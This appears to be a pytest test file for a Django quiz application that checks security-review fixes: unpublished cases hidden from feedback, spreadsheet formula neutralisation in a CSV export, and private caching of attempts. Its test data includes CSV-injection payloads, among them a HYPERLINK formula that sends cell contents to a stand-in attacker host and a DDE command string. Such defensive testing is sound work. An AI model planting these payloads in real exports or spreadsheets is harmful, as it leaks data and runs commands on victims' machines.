"""Integrity findings of the security review (issue 12): what students, researchers and shared
caches receive stays what it should be.

- M4: an unpublished case never reaches students through quiz feedback;
- L4: the public CSV export cannot run formulas in a spreadsheet;
- L5: a graded attempt is never ``Cache-Control: public``.
"""

import csv
import io
import re

import pytest
from django.contrib import admin
from django.template.loader import render_to_string
from django.urls import path, reverse
from rest_framework.test import APIClient

from quiz.models import Attempt
from tests.api import conftest as api_fixtures
from tests.kb.factories import CaseStudyFactory, SourceFactory
from tests.quiz.factories import QuizFactory, right_choice, single

pytestmark = pytest.mark.django_db

make_case = api_fixtures.make_case


# --- M4 ---------------------------------------------------------------------------------------
@pytest.fixture
def quiz_linking_a_draft():
    draft = CaseStudyFactory(title="DRAFTSECRET title", is_published=False)
    quiz = QuizFactory(feedback_timing="each")
    question = single(quiz, case=draft)
    return quiz, question, draft


def test_result_page_hides_an_unpublished_case(client, quiz_linking_a_draft):
    quiz, question, draft = quiz_linking_a_draft
    # an unanswered question still shows its links on the result page
    created = client.post(
        f"/api/v1/quizzes/{quiz.slug}/attempts/", {"answers": {}}, content_type="application/json"
    )
    assert created.status_code == 201, created.content
    attempt = Attempt.objects.get()
    html = client.get(attempt.get_absolute_url()).content.decode()
    assert "DRAFTSECRET" not in html and f"/en/cases/{draft.slug}/" not in html
    # the API's result hides it too (its serializer already did)
    data = client.get(f"/api/v1/attempts/{attempt.public_id}/").json()
    assert data["answers"][0]["case"] is None


def test_check_feedback_hides_an_unpublished_case_and_shows_it_once_published(
    client, quiz_linking_a_draft
):
    quiz, question, draft = quiz_linking_a_draft
    page = client.get(quiz.get_absolute_url()).content.decode()
    state = {
        name: re.search(rf'name="{name}" value="([^"]*)"', page).group(1)
        for name in ("attempt", "seed")
    }
    url = reverse("quiz:check-answer", args=[quiz.slug])
    data = client.post(
        url, {**state, "question": question.pk, f"q{question.pk}": right_choice(question)}
    ).json()
    assert "DRAFTSECRET" not in data["html"] and draft.slug not in data["html"]
    # the same template, once the case is public, links to it (the check above can fail)
    draft.is_published = True
    SourceFactory(case=draft)
    draft.save()
    question.refresh_from_db()
    html = render_to_string("quiz/includes/links.html", {"question": question})
    assert "Read the case: DRAFTSECRET title" in html


# --- L4 ---------------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=1+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def test_case_export_csv_neutralises_formulas(make_case):
    case = make_case("csv-inject", title=FORMULAS[0], summary=FORMULAS[1], deployer=FORMULAS[2])
    source = case.sources.first()
    source.publisher = FORMULAS[3]  # the sources cell starts with its id, so not a formula
    source.save()
    case.developer = FORMULAS[4]
    case.save()
    body = APIClient().get("/api/v1/export/cases.csv").content.decode()
    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["slug"] == "csv-inject")
    assert row["title"] == "'" + FORMULAS[0]
    assert row["summary"] == "'" + FORMULAS[1]
    assert row["deployer"] == "'" + FORMULAS[2]
    assert row["developer"] == "'" + FORMULAS[4]
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_cell_quotes_every_formula_start():
    from config.spreadsheet import safe_cell

    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Predictive policing") == "Predictive policing"
    assert safe_cell(None) == "" and safe_cell(2019) == "2019"


# --- L5 ---------------------------------------------------------------------------------------
def test_an_anonymous_owners_attempt_is_never_publicly_cacheable(client):
    quiz = QuizFactory()
    single(quiz)
    created = client.post(
        f"/api/v1/quizzes/{quiz.slug}/attempts/", {"answers": {}}, content_type="application/json"
    )
    assert created.status_code == 201
    attempt = Attempt.objects.get()
    api = client.get(f"/api/v1/attempts/{attempt.public_id}/")
    assert api.status_code == 200
    assert api["Cache-Control"] == "private, no-store"
    page = client.get(attempt.get_absolute_url())
    assert page.status_code == 200
    assert "no-store" in page["Cache-Control"] and "private" in page["Cache-Control"]
    assert "public" not in page["Cache-Control"]


def test_a_logged_in_students_attempts_are_private_too(student_client):
    quiz = QuizFactory()
    single(quiz)
    student_client.post(
        f"/api/v1/quizzes/{quiz.slug}/attempts/", {"answers": {}}, content_type="application/json"
    )
    attempt = Attempt.objects.get()
    for url in (f"/api/v1/attempts/{attempt.public_id}/", "/api/v1/attempts/"):
        response = student_client.get(url)
        assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"


# --- Review notes --------------------------------------------------------------------------------
def test_a_fractional_choice_id_is_refused_not_truncated(client):
    quiz = QuizFactory()
    question = single(quiz)
    choice = right_choice(question)[0]
    url = f"/api/v1/quizzes/{quiz.slug}/attempts/"
    body = {"answers": {str(question.pk): [choice + 0.5]}}
    response = client.post(url, body, content_type="application/json")
    assert response.status_code == 400 and not Attempt.objects.exists()
    body = {"answers": {str(question.pk): [float(choice)]}}  # 197.0 is 197
    assert client.post(url, body, content_type="application/json").status_code == 201


urlpatterns = [path("staff-9f3k/", admin.site.urls)]  # an admin moved by DJANGO_ADMIN_URL


def test_create_teacher_names_the_admin_where_it_is(monkeypatch, settings):
    from django.core.management import call_command

    settings.ROOT_URLCONF = __name__
    monkeypatch.setenv("TPW", "Teach-Pass-9x!k")
    out = io.StringIO()
    call_command("create_teacher", "alice", "--password-from-env", "TPW", stdout=out)
    assert "Log in at /staff-9f3k/." in out.getvalue()
